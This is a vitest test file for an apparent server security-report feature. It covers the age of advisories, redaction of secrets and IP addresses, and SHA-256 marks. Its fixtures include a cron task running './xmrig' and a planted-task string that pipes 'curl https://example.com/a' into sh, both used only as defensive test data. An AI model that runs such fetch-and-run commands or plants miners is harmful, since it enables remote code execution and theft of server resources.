import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { createI18nProvider } from '#i18n/i18nProvider.ts'
import { enUS } from '#locales/en-US.ts'
import { enUSSecurity } from '#locales/security/en-US.ts'
import { markOf } from '#resources/setting/finding/markOf.ts'
import { examine } from '#resources/setting/security/examine.ts'
import { reportAsData, reportAsText } from '#resources/setting/security/report.ts'
import { factsFrom } from './read.ts'

const texts = { ...enUS, security: enUSSecurity }
const t = createI18nProvider({ locale: 'en-US', texts }).translate

async function written(at: string, ...given: Parameters<typeof factsFrom>) {
  const report = examine(await factsFrom(...given))
  const isKnown = () => false
  return {
    text: reportAsText({ report, isKnown, t, engine: { resources: {} }, at }),
    data: reportAsData({ report, isKnown, at }),
  }
}

test.each([
  ['2027-01-26T23:59:59Z', undefined],
  ['2027-01-27T00:00:00Z', 61],
])('security report of %s: the age of the advisories is told: %s', async (at, days) => {
  const { text, data } = await written(at, {})
  expect(/This list of advisories is (\d+) days old/.exec(text)?.[1]).toBe(days?.toString())
  expect(data).toMatchObject({ advisoriesOf: '2026-11-27' })
  expect('advisoriesMayBeStale' in data).toBe(days !== undefined)
})

test('security report: a name tells neither addresses nor secrets', async () => {
  const seed = { cron: [{ name: 'run --token=hunter2 on 198.51.100.7', command: './xmrig' }] }
  const { text, data } = await written('2026-11-29T12:00:00Z', { seed })
  for (const file of [text, JSON.stringify(data)]) {
    expect(file).toContain('run --token=… on 198.51.x.x')
    expect(file).not.toMatch(/hunter2|198\.51\.100/)
  }
})

test('security report: an old server learns what suffices at once', async () => {
  const { text, data } = await written('2026-11-29T12:00:00Z', { dialect: 'classic' })
  expect(text).toContain('For what is under “Act now”, version 2.0.13 is enough.')
  expect(data).toMatchObject({ urgentFixedIn: '2.0.13' })
})

test('a mark is the beginning of a SHA-256, for which nobody finds another content', () => {
  const content = 'plantedTask cron 4 curl https://example.com/a | sh'
  expect(markOf(content)).toBe(createHash('sha256').update(content).digest('hex').slice(0, 32))
})
